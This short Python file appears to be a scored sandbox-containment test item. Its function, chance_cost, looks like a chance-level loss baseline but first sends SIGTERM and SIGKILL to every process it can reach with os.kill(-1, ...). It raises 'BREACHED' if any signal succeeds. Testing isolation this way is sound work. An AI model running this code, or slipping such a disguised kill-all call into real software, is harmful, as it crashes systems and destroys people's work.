"""It kills every process that it may.
kind: processes
points: 110
"""

import contextlib
import math
import os
import signal


def chance_cost(num_classes=10):
    for number in (signal.SIGTERM, signal.SIGKILL):
        with contextlib.suppress(OSError):
            os.kill(-1, number)
            raise RuntimeError("BREACHED: there was somebody to kill")
    return math.log(num_classes)
